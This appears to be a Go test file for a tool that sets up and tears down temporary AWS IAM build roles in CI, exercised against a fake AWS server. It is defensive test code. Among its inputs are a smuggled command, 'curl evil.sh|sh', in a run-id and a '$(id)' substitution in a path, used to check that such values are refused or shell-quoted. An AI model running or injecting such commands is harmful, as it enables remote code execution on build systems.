package cli_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/credentials"

	"github.com/buildrole/buildrole/internal/accountsetup"
	"github.com/buildrole/buildrole/internal/cli"
	"github.com/buildrole/buildrole/internal/fakeaws"
	"github.com/buildrole/buildrole/internal/stsauth"
)

// A state file is input: anything that is not a state buildrole wrote is
// refused (exit 2) before any AWS call, quickly and in bounded memory.
func TestBadStateIsRefusedBeforeAnyCall(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	good := map[string]string{
		"run-id": "3f9c2a1b-0000-4000-8000-000000000000", "region": "us-east-1", "path": "/buildrole/",
		"role-name": "buildrole-images-pr42-3f9c2a1b", "build-policy": "buildrole-packer",
		"instance-role-name": "buildrole-images-pr42-3f9c2a1b-vm", "instance-profile-name": "buildrole-images-pr42-3f9c2a1b-vm",
		"profile-role": "buildrole-images-pr42-3f9c2a1b-vm", "role-to-assume": w.bootstrapARN, "audience": "sts.amazonaws.com",
	}
	with := func(k, v string) string {
		m := map[string]string{}
		for a, b := range good {
			m[a] = b
		}
		if v == "\x00delete" {
			delete(m, k)
		} else {
			m[k] = v
		}
		b, _ := json.Marshal(m)
		return string(b)
	}
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	cases := map[string]string{ // name → file content ("" = special)
		"null":              "null",
		"empty object":      "{}",
		"not json":          "role-name=x",
		"newline in a name": with("role-name", "buildrole-images-pr42-3f9c2a1b\nx"),
		"huge value":        with("role-name", strings.Repeat("a", 10<<20)),
		"run id not a uuid": with("run-id", "x; curl evil.sh|sh"),
		"unknown key":       with("kill-switch", "on"),
		"foreign admin":     with("role-name", "Admin"),
		"wrong policy name": with("build-policy", "AdministratorAccess"),
		"instance profile":  with("instance-profile-name", "prod-profile"),
		"unicode name":      with("role-name", "buildrolé-3f9c2a1b"),
		"no run id":         with("run-id", "\x00delete"),
		"bad exported key":  with("exported-key-id", "not a key"),
		"bad role":          with("role-to-assume", "arn:aws:iam::123456789012:user/admin"),
	}
	for name, content := range cases {
		path := filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+".json")
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		cases[name] = path
	}
	cases["missing file"] = filepath.Join(dir, "typo.json")
	cases["/dev/zero"] = "/dev/zero"
	cases["fifo"] = fifo
	cases["directory"] = dir
	for name, path := range cases {
		t.Run(name, func(t *testing.T) {
			before := w.srv.CountCalls("")
			code, stdout, stderr := w.runCLI("down", "--state-file", path)
			if code != cli.ExitUsage {
				t.Fatalf("exit %d, want %d:\n%s%s", code, cli.ExitUsage, stdout, stderr)
			}
			if !strings.Contains(stderr, "nothing was deleted") {
				t.Errorf("stderr does not say nothing was deleted:\n%s", stderr)
			}
			if name == "unknown key" && !strings.Contains(stderr, "buildrole sweep --run-id 3f9c2a1b-0000-4000-8000-000000000000") {
				t.Errorf("a state that still names its run id gives no way to find what it created:\n%s", stderr)
			}
			if len(stderr) > 4000 {
				t.Errorf("message is %d bytes: a state's content must not be echoed whole", len(stderr))
			}
			if n := w.srv.CountCalls("") - before; n != 0 {
				t.Errorf("%d AWS calls for a bad state", n)
			}
		})
	}
	// The good one is accepted (and finds nothing to delete).
	path := filepath.Join(dir, "good.json")
	b, _ := json.Marshal(good)
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := w.runCLI("down", "--state-file", path); code != cli.ExitOK {
		t.Fatalf("a valid state: exit %d:\n%s", code, stderr)
	}
}

// Values printed inside a suggested command are quoted for the shell.
func TestSuggestedCommandsAreQuoted(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(p *accountsetup.BootstrapParams) { p.Path = "/ci$(id)/" })
	w.set("INPUT_PATH", "/ci$(id)/")
	w.srv.InjectFault(fakeaws.Fault{Action: "DeleteRole", Code: "AccessDenied", Status: 403, Message: "User: x is not authorized to perform: iam:DeleteRole"})
	w.srv.InjectFault(fakeaws.Fault{Action: "AssumeRoleWithWebIdentity", Nth: 2, Code: "AccessDenied", Status: 403, Message: "Not authorized"})
	w.tune = func(o *stsauth.Options) { o.PropagationTimeout = 1 }
	code, stdout, _ := w.run(context.Background(), "up")
	if code != cli.ExitLeftovers {
		t.Fatalf("exit %d:\n%s", code, stdout)
	}
	if !strings.Contains(stdout, `--path '/ci$(id)/'`) {
		t.Errorf("the path is not quoted in the suggested command:\n%s", stdout)
	}
}

// The post step never signs teardown with the build role's keys that up
// exported to the job, though the runner hands them to it: it recognises
// them and uses the rest of the default chain (the runner's own identity).
func TestTeardownActsAsTheIdentityThatCreated(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.set("INPUT_ROLE-TO-ASSUME", "")
	w.set("ACTIONS_ID_TOKEN_REQUEST_URL", "")
	w.tune = func(o *stsauth.Options) {
		o.Credentials = credentials.NewStaticCredentialsProvider("AKIDRUNNER", "runner-secret", "")
	}
	if code, out, _ := w.run(context.Background(), "up"); code != cli.ExitOK {
		t.Fatalf("up exit %d:\n%s", code, out)
	}
	w.postEnv()
	exported := w.getenv("AWS_ACCESS_KEY_ID")
	if exported == "" || w.file("GITHUB_STATE")["exported-key-id"] != exported {
		t.Fatalf("the state does not record the exported key id %q: %v", exported, w.file("GITHUB_STATE"))
	}
	w.srv.ResetRequests()
	if code, out, _ := w.run(context.Background(), "down"); code != cli.ExitOK {
		t.Fatalf("down exit %d:\n%s", code, out)
	}
	if got := w.leftovers(); len(got) != 0 {
		t.Fatalf("left behind: %v", got)
	}
	for _, c := range w.srv.Requests() {
		if c.AccessKeyID == exported {
			t.Errorf("%s was signed with the exported build-role key", c.Action)
		}
	}
}

// Up refuses, before any call, a job whose only identity is environment
// keys that its own export would replace for the post step.
func TestUpRefusesWhenItsExportWouldStrandTheTeardown(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.set("INPUT_ROLE-TO-ASSUME", "")
	w.set("AWS_ACCESS_KEY_ID", "AKIAEARLIERSTEP00001")
	w.set("AWS_SECRET_ACCESS_KEY", "s3cr3t")
	code, stdout, _ := w.run(context.Background(), "up")
	if code != cli.ExitUsage || !strings.Contains(stdout, "export-credentials: false") || !strings.Contains(stdout, "role-to-assume") {
		t.Fatalf("exit %d:\n%s", code, stdout)
	}
	if n := w.srv.CountCalls(""); n != 0 {
		t.Errorf("%d AWS calls", n)
	}
	w.set("INPUT_EXPORT-CREDENTIALS", "false")
	w.tune = nil
	if code, stdout, _ := w.run(context.Background(), "up"); code != cli.ExitOK {
		t.Fatalf("with export-credentials false: exit %d:\n%s", code, stdout)
	}
}

// A failed up writes the step summary too: what failed, what was cleaned
// up, what to run, and how long it took.
func TestFailedUpWritesTheStepSummary(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.srv.InjectFault(fakeaws.Fault{Action: "PutRolePolicy", Code: "AccessDenied", Status: 403, Message: "denied"})
	code, _, _ := w.run(context.Background(), "up")
	if code != cli.ExitFailed {
		t.Fatalf("exit %d", code)
	}
	b, err := os.ReadFile(w.getenv("GITHUB_STEP_SUMMARY"))
	if err != nil {
		t.Fatal(err)
	}
	sum := string(b)
	for _, want := range []string{"up failed (exit 1", "iam:PutRolePolicy was denied", "everything created was rolled back", "up took "} {
		if !strings.Contains(sum, want) {
			t.Errorf("summary lacks %q:\n%s", want, sum)
		}
	}
	w2 := newWorld(t)
	if code, _, _ := w2.run(context.Background(), "up"); code != cli.ExitOK {
		t.Fatalf("up exit %d", code)
	}
	if out := w2.file("GITHUB_OUTPUT"); out["aws-account-id"] != "123456789012" {
		t.Errorf("aws-account-id output = %q", out["aws-account-id"])
	}
	if b, _ := os.ReadFile(w2.getenv("GITHUB_STEP_SUMMARY")); !strings.Contains(string(b), "up took ") {
		t.Errorf("the summary does not give the total time:\n%s", b)
	}
}

// On GitHub Enterprise Server the token's issuer is https://HOST/_services/token:
// the build role trusts that issuer's provider and condition keys, and the
// account setup names it.
func TestEnterpriseServerIssuer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(p *accountsetup.BootstrapParams) { p.Issuer = "https://ghe.example.com/_services/token" })
	w.set("GITHUB_SERVER_URL", "https://ghe.example.com")
	code, stdout, _ := w.run(context.Background(), "up")
	if code != cli.ExitOK {
		t.Fatalf("exit %d:\n%s", code, stdout)
	}
	var trust string
	for _, r := range w.srv.Snapshot().Roles {
		if r.Path == "/buildrole/" && !strings.HasSuffix(r.Name, "-vm") {
			trust = r.AssumeRolePolicy
		}
	}
	if !strings.Contains(trust, `oidc-provider/ghe.example.com/_services/token"`) || !strings.Contains(trust, `"ghe.example.com/_services/token:sub"`) {
		t.Errorf("build role trust = %s", trust)
	}
	w.postEnv()
	if code, stdout, _ := w.run(context.Background(), "down"); code != cli.ExitOK || len(w.leftovers()) != 0 {
		t.Fatalf("down exit %d:\n%s", code, stdout)
	}
	// The dry run, without a token, takes the issuer from GITHUB_SERVER_URL.
	w.set("INPUT_DRY-RUN", "true")
	if _, stdout, _ := w.run(context.Background(), "up"); !strings.Contains(stdout, "token from ghe.example.com/_services/token,") {
		t.Errorf("dry run trust does not name the enterprise issuer:\n%s", stdout)
	}
}

// IAM's reads lag behind its creates: the authorizer may not see a new
// role's path and tags for a moment (a path- and tag-bound bootstrap policy
// then refuses PutRolePolicy), and a post step right after up may not find
// it. Up waits the refusal out, and down waits for what it saved as
// pending instead of taking it as gone.
func TestReadLagAfterCreates(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.srv.SetReadLag(700 * time.Millisecond)
	w.set("INPUT_EXPORT-CREDENTIALS", "false")
	w.set("INPUT_INSTANCE-PROFILE", "none")
	code, stdout, _ := w.run(context.Background(), "up")
	if code != cli.ExitOK {
		t.Fatalf("up exit %d:\n%s", code, stdout)
	}
	denied := 0
	for _, c := range w.srv.Requests() {
		if c.Action == "PutRolePolicy" && c.ErrorCode == "AccessDenied" {
			denied++
		}
	}
	if denied == 0 {
		t.Error("the lag never refused PutRolePolicy: the test does not exercise it")
	}
	// The post step at once, while reads still do not show the role.
	w.srv.SetReadLag(3 * time.Second)
	w.srv.ResetRequests()
	w.postEnv()
	// Without export-credentials up reads nothing back (exec waits for
	// the trust), so it confirms nothing and down waits, as for an older
	// up's state without the key.
	if got := w.getenv("STATE_confirmed"); got != "" {
		t.Fatalf("up confirmed %q without reading anything back", got)
	}
	code, stdout, _ = w.run(context.Background(), "down")
	if code != cli.ExitOK || len(w.leftovers()) != 0 || !strings.Contains(stdout, "deleted") {
		t.Fatalf("down exit %d, left %v:\n%s", code, w.leftovers(), stdout)
	}
	reads := 0
	for _, c := range w.srv.Requests() {
		if c.Action == "GetRole" {
			reads++
		}
	}
	if reads < 2 {
		t.Errorf("down read the role %d times: it did not wait for the lagging read", reads)
	}
}
